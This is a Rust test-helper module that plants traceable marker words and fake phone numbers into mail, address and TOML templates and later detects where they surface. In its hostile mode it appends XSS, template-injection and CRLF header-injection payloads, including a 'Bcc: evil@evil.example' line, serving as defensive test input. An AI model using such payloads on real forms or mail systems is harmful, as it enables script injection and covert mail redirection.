//! Words that stand nowhere else, each in one field that somebody may fill. `{employee/what_happened}` in a text becomes the
//! word for that field of that person; `{employee/contact_phone:phone}` becomes a number.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use base64::Engine as _;
use regex::{Captures, Regex};

static HOLE: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\{([a-z]+)/([a-z_]+)(:phone)?\}").unwrap());

static WORD: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"zq[a-z]+?zq").unwrap());

/// A word, by whom it was written and in which field.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Marker {
    pub author: String,
    pub field: String,
}

/// What follows a word.
#[derive(Clone, Copy)]
enum Suffix {
    Nothing,
    Text(&'static str),
    Encoded,
}

/// How a hole is filled.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Writing {
    /// With the word alone.
    #[default]
    Plain,
    /// With the word, and what tries to be more than text.
    Hostile,
}

/// Markup, templates and what breaks out of an attribute; without the marks that part a command.
pub const MARKUP: &str = "</td><script>x()</script><img src=x onerror=y()>\" onload='z()' <a href=\"javascript:x()\">\
    {{token}}{{{x}}}{{#each a}}{{> _foot}}{{/each}}<style>*{}</style><!--";
/// The same as part of a name: shorter, and nothing that ends a quotation.
pub const SHORT: &str = "</td><script>x()</script>{{x}}";
/// What comes out of an encoded word in a header.
pub const HEADER: &str = "\r\nBcc: evil@evil.example\r\n\r\n<script>x()</script>\u{202e}";

/// All that was planted in a story.
#[derive(Default)]
pub struct Field {
    /// By the word as it is searched for: lower case, no white space.
    pub markers: BTreeMap<String, Marker>,
    writing: Writing,
    phones: u32,
}

impl Field {
    pub fn new(writing: Writing) -> Field {
        Field { writing, ..Field::default() }
    }

    /// A mail with its holes filled: as an encoded word in its head, within a name where a name stands, else as text.
    pub fn plant_mail(&mut self, mail: &str) -> String {
        let mut in_head = true;
        let mut lines = Vec::new();
        for line in mail.split('\n') {
            in_head &= !line.is_empty();
            let is_name = [
                "Content-",
                "ATTENDEE",
                "Avvikseier: ",
                "Hold utenfor: ",
                "Aksjonsgruppe: ",
                "Kontaktperson: ",
            ];
            let names_somebody = is_name.iter().any(|start| line.starts_with(start))
                || line.contains("{officer/external_name}")
                || line.contains("{joint/controller_name}");
            let suffix = match self.writing {
                Writing::Plain => Suffix::Nothing,
                Writing::Hostile if in_head => Suffix::Encoded,
                Writing::Hostile if names_somebody => Suffix::Text(SHORT),
                Writing::Hostile => Suffix::Text(MARKUP),
            };
            lines.push(self.fill(line, suffix));
        }
        lines.join("\n")
    }

    /// An address with its holes filled.
    pub fn plant_address(&mut self, address: &str) -> String {
        self.fill(address, Suffix::Nothing)
    }

    /// A file of names with its holes filled.
    pub fn plant_toml(&mut self, text: &str) -> String {
        let hostile = self.writing == Writing::Hostile;
        self.fill(text, if hostile { Suffix::Text(SHORT) } else { Suffix::Nothing })
    }

    fn fill(&mut self, text: &str, suffix: Suffix) -> String {
        HOLE.replace_all(text, |hole: &Captures<'_>| {
            let marker = Marker { author: hole[1].to_owned(), field: hole[2].to_owned() };
            let after = text.get(hole.get(0).unwrap().end()..).unwrap_or_default();
            match (hole.get(3), suffix) {
                (Some(_), _) => self.phone(marker),
                // Within an address nothing else can stand.
                (None, _) if after.starts_with('@') => self.word(marker),
                (None, Suffix::Nothing) => self.word(marker),
                (None, Suffix::Text(text)) => self.word(marker) + text,
                (None, Suffix::Encoded) => {
                    let word = self.word(marker) + HEADER;
                    format!("=?utf-8?B?{}?=", base64::engine::general_purpose::STANDARD.encode(word))
                }
            }
        })
        .into_owned()
    }

    fn word(&mut self, marker: Marker) -> String {
        let word = format!("zq{}x{}zq", marker.author, marker.field.replace('_', ""));
        self.markers.insert(word.clone(), marker);
        word
    }

    fn phone(&mut self, marker: Marker) -> String {
        if let Some((known, _)) = self.markers.iter().find(|(_, known)| **known == marker) {
            return known.clone();
        }
        self.phones += 1;
        let number = format!("2266{:04}", 1000 + self.phones);
        self.markers.insert(number.clone(), marker);
        number
    }

    /// The markers that a text shows, whatever was done to its lines and letters.
    pub fn found<'a>(&'a self, text: &str) -> Vec<&'a Marker> {
        let even: String = text.to_lowercase().chars().filter(|c| !c.is_whitespace()).collect();
        // A number may stand within another text; a word ends as it begins.
        let words = WORD.find_iter(&even).map(|word| word.as_str().to_owned());
        let numbers =
            self.markers.keys().filter(|word| !word.starts_with('z') && even.contains(word.as_str()));
        let all: BTreeSet<String> = words.chain(numbers.cloned()).collect();
        all.iter().filter_map(|word| self.markers.get(word)).collect()
    }
}
